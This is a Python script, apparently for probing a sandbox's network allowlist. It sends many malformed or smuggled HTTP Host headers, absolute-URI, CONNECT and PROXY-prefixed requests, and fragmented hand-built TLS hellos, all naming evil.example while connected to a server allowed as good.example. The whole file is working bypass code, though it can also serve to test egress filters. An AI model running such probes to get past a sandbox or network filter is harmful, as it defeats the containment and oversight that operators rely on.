"""
Ways to say another name to a server than the one that was asked for.  Runs inside a sandbox that may speak with
good.example alone, whose server also serves evil.example; that server writes down what it is told.

	attack_hello.py ADDRESS
"""
import socket
import ssl
import sys
import time

AT = sys.argv[1]
GOOD, EVIL = b"good.example", b"evil.example"
END = b"\r\n\r\n"


def request(*lines, end=b"\r\n"):
    return end.join(lines) + end + end


GET = b"GET / HTTP/1.1"
REQUESTS = [
    request(GET, b"Host: evil.example"),
    request(GET, b"host:evil.example"),
    request(GET, b"HOST:   evil.example  "),
    request(GET, b"Host: EVIL.example."),
    request(GET, b"Host: evil.example:80"),
    request(b"GET / HTTP/1.0", b"Host: evil.example"),
    request(GET, b"Host: evil.example", end=b"\n"),
    b"\r\n\r\n" + request(GET, b"Host: evil.example"),
    request(GET, b"Host: good.example", b"Host: evil.example"),
    request(GET, b"Host: evil.example", b"Host: good.example"),
    request(GET, b"Host : evil.example"),
    request(GET, b"Host\t: evil.example"),
    request(GET, b"X: y", b" Host: evil.example", b"Host: good.example"),
    request(GET, b"Host:", b" evil.example"),
    request(GET, b"Host: good.example", b"\tevil.example"),
    request(GET, b"Host: good.example,evil.example"),
    request(GET, b"Host: good.example@evil.example"),
    request(GET, b"Host: good.example\0.evil.example"),
    request(b"GET http://evil.example/ HTTP/1.1", b"Host: good.example"),
    request(b"GET http://evil.example/ HTTP/1.1", b"Host: evil.example"),
    request(b"GET  /  HTTP/1.1", b"Host: evil.example"),
    request(b"GET\t/\tHTTP/1.1", b"Host: evil.example"),
    request(b"FOO / HTTP/1.1", b"Host: evil.example"),
    request(b"get / HTTP/1.1", b"Host: evil.example"),  # a method is any token, and some servers serve every one
    request(b"Get / HTTP/1.1", b"Host: evil.example"),
    request(b"X9.a!b / HTTP/1.1", b"Host: evil.example"),
    request(b"A" * 40 + b" / HTTP/1.1", b"Host: evil.example"),
    request(b"M-SEARCH / HTTP/1.1", b"Host: evil.example"),
    request(b"GET / http/1.1", b"Host: evil.example"),
    request(b"GET / HTTP/9.9", b"Host: evil.example"),
    request(b"CONNECT evil.example:80 HTTP/1.1", b"Host: good.example"),
    request(GET, *[b"X-%d: %s" % (i, b"y" * 500) for i in range(20)], b"Host: evil.example"),
    request(GET, b"X: " + b"y" * 60000, b"Host: evil.example"),
    request(GET, b"Content-Length: 0", b"X: \xff\xfe", b"Host: evil.example"),
    b"PROXY TCP4 10.0.0.1 10.0.0.2 1 2\r\n" + request(GET, b"Host: evil.example"),
    b"\r\n\r\n\0\r\nQUIT\n\x20\0\0\0" + request(GET, b"Host: evil.example"),
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0" * 9 + request(GET, b"Host: evil.example"),
]


def say(data, step=0, wait=0.0):
    s = socket.create_connection((AT, 80), 30)
    try:
        if step:
            for i in range(0, len(data), step):
                s.sendall(data[i : i + step])
                time.sleep(wait)
        else:
            s.sendall(data)
        s.settimeout(15)
        while s.recv(4096):
            pass
    except OSError:
        pass
    s.close()


def tls(name, before=b"", step=0):
    """A handshake by hand, so that its hello can be sent in pieces, and behind something else."""
    c = ssl.create_default_context()
    c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
    out, back = ssl.MemoryBIO(), ssl.MemoryBIO()
    t = c.wrap_bio(back, out, server_hostname=name)
    try:
        t.do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = out.read()
    s = socket.create_connection((AT, 443), 30)
    try:
        s.sendall(before)
        if step:  # in several records, too
            body = hello[5:]
            for i in range(0, len(body), step):
                piece = body[i : i + step]
                s.sendall(b"\x16\x03\x01" + len(piece).to_bytes(2, "big") + piece)
        else:
            s.sendall(hello)
        s.settimeout(15)
        s.recv(4096)
    except OSError:
        pass
    s.close()


for r in REQUESTS:
    say(r)
say(REQUESTS[0], 1, 0.01)
say(REQUESTS[0], 7)
tls("evil.example")
tls("EVIL.example")
tls("evil.example", step=40)
tls("evil.example", step=1)
tls("evil.example", step=300)
tls("evil.example", b"\x15\x03\x01\x00\x02\x01\x00")  # a warning, which servers pass over
tls("evil.example", b"\x16\x03\x01\x00\x00")
tls("evil.example", b"\x14\x03\x01\x00\x01\x01")
tls("evil.example", b"PROXY TCP4 10.0.0.1 10.0.0.2 1 2\r\n")
print("the end")
